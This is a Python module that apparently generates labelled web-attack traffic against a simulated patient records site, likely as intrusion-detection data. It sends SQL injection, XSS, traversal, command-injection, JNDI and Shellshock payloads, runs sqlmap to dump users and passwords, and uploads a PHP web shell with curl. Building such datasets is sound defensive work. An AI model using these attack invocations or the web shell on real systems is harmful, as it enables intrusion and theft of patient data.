"""Attacks in requests to the records' web site: SQL, scripts, traversal, commands, searches."""
import base64, json, urllib.parse

from . import payloads, requests, scenario, talk

PORTS = 80, 80, 8080
PLACES = "/patients", "/search", "/notes", "/files", "/login", "/api/patients", "/index.php", "/cgi-bin/view"


def carried(dice, address, kind, place=None, agent=None):
    """A request that carries a payload in its query, body, cookie or a header."""
    target, name = place or dice.choice(PLACES), dice.choice(payloads.PARAMETERS)
    plain = kind(dice).replace("\n", " ")
    coded = payloads.disguised(plain, dice)
    where = dice.choice(("query", "query", "query", "form", "form", "json", "cookie", "header"))
    if where == "query":
        more = f"&{dice.choice(payloads.PARAMETERS)}={dice.randrange(99)}" * dice.randrange(2)
        return requests.request(dice, "GET", f"{target}?{name}={coded}{more}", address, agent=agent)
    if where == "form":
        headers, body = requests.form([(name, coded), ("submit", "1")][:dice.randint(1, 2)])
        return requests.request(dice, "POST", target, address, headers, body, agent=agent)
    if where == "json":
        return requests.request(dice, "POST", dice.choice(("/api/patients", "/api/vitals")), address,
                                (("Content-Type", "application/json"),), json.dumps({name: plain}),
                                agent=agent)
    if where == "cookie":
        return requests.request(dice, "GET", target, address, (("Cookie", f"{name}={coded}; lang=en"),),
                                agent=agent)
    header = dice.choice(("X-Forwarded-For", "Referer", "X-Api-Version", "User-Agent"))
    return requests.request(dice, "GET", target, address, ((header, plain),), agent=agent)


def run_of(scene, make, most=4, sources=None):
    """Visits with such requests: slow or fast, one or several on a connection, at random."""
    attacker = None if sources else talk.either(scene)
    host = attacker or scene.plan["botnet"]
    sources = sources or [attacker.address] * scene.dice.randint(1, 3)
    requests.visits(scene, host, sources, scene.dice.choice(PORTS), make, 2 ** scene.dice.uniform(0.5, 5),
                    scene.dice.randint(1, most), seconds=1.5 * scene.seconds)


@scenario("sql-script", "SQL_INJECTION", "a script with SQL in queries, forms, JSON, cookies and headers")
def sql_script(scene):
    agent = scene.dice.choice((None, "sqlmap/1.7.2#stable (https://sqlmap.org)",
                               scene.dice.choice(requests.AGENTS)))

    def make(dice, address):
        if dice.random() < 0.4:
            return requests.request(dice, "GET", f"/patients?name={payloads.sql_disguised(dice)}", address,
                                    agent=agent)
        return carried(dice, address, payloads.sql, agent=agent)
    run_of(scene, make)


@scenario("sql-botnet", "SQL_INJECTION", "the same from several machines outside, a little each")
def sql_botnet(scene):
    def make(dice, address):
        return carried(dice, address, payloads.sql, dice.choice(("/patients", None)))
    run_of(scene, make, 2, scene.bots(scene.dice.randint(4, 12)))


@scenario("sql-curl", "SQL_INJECTION", "a hand with curl that empties the patients' table", ["curl"])
def sql_curl(scene):
    attacker, victim, dice = talk.either(scene), scene.host("records"), scene.dice
    port = dice.choice(PORTS)
    agent = ["-A", dice.choice(requests.AGENTS)] * dice.randrange(2)
    with talk.blamed(scene, [attacker.address], victim.address, port, tail=4):
        for _ in talk.beats(scene, dice, dice.uniform(1.5, 8), 1.5 * scene.seconds):
            text = payloads.sql(dice)
            path = dice.choice(("/patients", "/patients", "/search", "/login"))
            page = f"http://{victim.address}:{port}{path}"
            how = dice.choice((["-G", "--data-urlencode", f"name={text}"],
                               ["--data-urlencode", f"user={text}"],
                               ["-b", f"id={text.replace(';', '')}"], ["-e", text], ["-F", f"name={text}"],
                               ["--path-as-is", "-G", "-d", f"name={payloads.sql_disguised(dice)}"]))
            scene.run(attacker, "curl", "-s", "-o", "/dev/null", "-m", 2, *agent, *how, page, seconds=3)


@scenario("sqlmap", "SQL_INJECTION", "sqlmap at the search for patients", ["sqlmap"])
def sqlmap(scene):
    attacker, victim, dice = talk.either(scene), scene.host("records"), scene.dice
    port, folder = dice.choice(PORTS), scene.room.folder / f"sqlmap{dice.randrange(10 ** 6)}"
    path = dice.choice(("patients?name=Li",) * 4 + ("patients?limit=5&name=a", "search?q=a"))
    target = ["-u", f"http://{victim.address}:{port}/{path}"]
    if dice.random() < 0.15:
        target = ["-u", f"http://{victim.address}:{port}/login", "--data", "user=anna&password=x"]
    options = ["--random-agent"] * dice.randrange(2) + ["--keep-alive"] * dice.randrange(2)
    options += dice.choice(([], ["--dbms", "sqlite"]))
    options += dice.choice(([], ["--tables"], ["--dump", "-T", "users"], ["--passwords"], ["--banner"]))
    options += dice.choice(([], ["--tamper", "space2comment"], ["--tamper", "randomcase,space2plus"]))
    techniques = "".join(dice.sample("BEUSTQ", dice.randint(2, 6)))
    with talk.blamed(scene, [attacker.address], victim.address, port, tail=6):
        scene.run(attacker, "env", f"HOME={scene.room.folder}", "sqlmap", *target, *options, "--batch",
                  "--flush-session", "--disable-coloring", "--output-dir", folder, "--technique", techniques,
                  "--level", dice.randint(1, 3), "--risk", dice.randint(1, 3), "--time-sec", 1,
                  "--delay", dice.choice((0, 0.01, 0.05)), seconds=2.5 * scene.seconds)


@scenario("cross-site-scripting", "WEB_ATTACK", "scripts in queries, forms and headers")
def cross_site(scene):
    run_of(scene, lambda dice, address: carried(dice, address, payloads.scripts,
                                                dice.choice((None, "/search", "/notes"))))


@scenario("path-traversal", "WEB_ATTACK", "ways out of the web site's folder, plain and encoded")
def traversal(scene):
    def make(dice, address):
        path = payloads.paths(dice)
        target = dice.choice((f"/files?name={path}", f"/{path}", f"/static/{path}",
                              f"/index.php?page={path}"))
        return requests.request(dice, "GET", target.replace(" ", "%20"), address)
    run_of(scene, make)


@scenario("command-injection", "WEB_ATTACK", "shell commands in parameters")
def command_injection(scene):
    run_of(scene, lambda dice, address: carried(dice, address, payloads.commands))


@scenario("header-attacks", "WEB_ATTACK", "JNDI look-ups and Shellshock in headers")
def header_attacks(scene):
    kind = scene.dice.choice((payloads.lookups, payloads.functions))

    def make(dice, address):
        names = dice.sample(("User-Agent", "Referer", "X-Api-Version", "X-Forwarded-For", "Accept-Language",
                             "Cookie",
                             "Authorization", "If-Modified-Since"), dice.randint(1, 5))
        lines = [(name, kind(dice)) for name in names]
        target = dice.choice(("/", "/cgi-bin/status", f"/?x={urllib.parse.quote(kind(dice))}", "/login"))
        return requests.request(dice, "GET", target, address, lines)
    run_of(scene, make)


def from_list(scene, targets, rate, agent, methods=("GET",)):
    """One target of a list after another, over a few connections."""
    left = list(targets)

    def make(dice, address):
        target = left.pop() if left else "/"
        return requests.request(dice, dice.choice(methods), target, address, agent=agent)
    attacker = talk.either(scene)
    most = scene.dice.choice((1, 3, 20, 100))
    requests.visits(scene, attacker, [attacker.address] * scene.dice.randint(1, 8), scene.dice.choice(PORTS),
                    make,
                    rate / (most + 1) * 2, most)


@scenario("directory-search", "WEB_ATTACK", "a few hundred paths that might be there")
def directory_search(scene):
    agent = scene.dice.choice(("gobuster/3.5", "feroxbuster/2.10.1", "DirBuster-1.0-RC1",
                               scene.dice.choice(requests.AGENTS)))
    from_list(scene, payloads.names(scene.dice, scene.dice.randint(150, 500)), scene.dice.randint(20, 120),
              agent,
              scene.dice.choice((("GET",), ("HEAD", "GET"))))


@scenario("web-scanner", "WEB_ATTACK", "a scanner of all known weaknesses, as nikto")
def scanner(scene):
    dice = scene.dice
    targets = list(payloads.KNOWN) + payloads.names(dice, dice.randint(20, 120))
    kinds = payloads.scripts, payloads.sql, payloads.commands, payloads.lookups
    for _ in range(dice.randint(20, 80)):
        text = payloads.disguised(dice.choice(kinds)(dice), dice)
        targets.append(f"{dice.choice(PLACES)}?{dice.choice(payloads.PARAMETERS)}={text}")
    dice.shuffle(targets)
    agent = dice.choice(("Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)",
                         "Nuclei - Open-source project",
                         "Mozilla/5.0 zgrab/0.x", dice.choice(requests.AGENTS)))
    from_list(scene, targets, dice.randint(15, 80), agent, ("GET", "GET", "GET", "OPTIONS", "TRACE", "POST"))


@scenario("web-curl", "WEB_ATTACK", "curl with attacks of all kinds, one at a time", ["curl"])
def web_curl(scene):
    attacker, victim, dice = talk.either(scene), scene.host("records"), scene.dice
    port = dice.choice(PORTS)
    shell = scene.file("shell.php", "<?php system($_GET['c']); ?>" * dice.randint(1, 40))
    with talk.blamed(scene, [attacker.address], victim.address, port, tail=4):
        for _ in talk.beats(scene, dice, dice.uniform(1.5, 8), 1.5 * scene.seconds):
            page = f"http://{victim.address}:{port}"
            secret = base64.b64encode(payloads.commands(dice).encode()).decode()
            how = dice.choice((
                ["--path-as-is", f"{page}/files?name={payloads.paths(dice).replace(' ', '+')}"],
                ["-G", "--data-urlencode", f"q={payloads.scripts(dice)}", f"{page}/search"],
                ["--data-urlencode", f"text={payloads.scripts(dice)}", f"{page}/notes"],
                ["-H", f"X-Api-Version: {payloads.lookups(dice)}", page],
                ["-A", payloads.functions(dice), f"{page}/cgi-bin/x"],
                ["-G", "--data-urlencode", f"host={payloads.commands(dice)}", f"{page}/cgi-bin/ping"],
                ["-b", f"session={secret}", "-T", shell, f"{page}/shell.php"]))
            scene.run(attacker, "curl", "-s", "-g", "-o", "/dev/null", "-m", 2, *how, seconds=3)
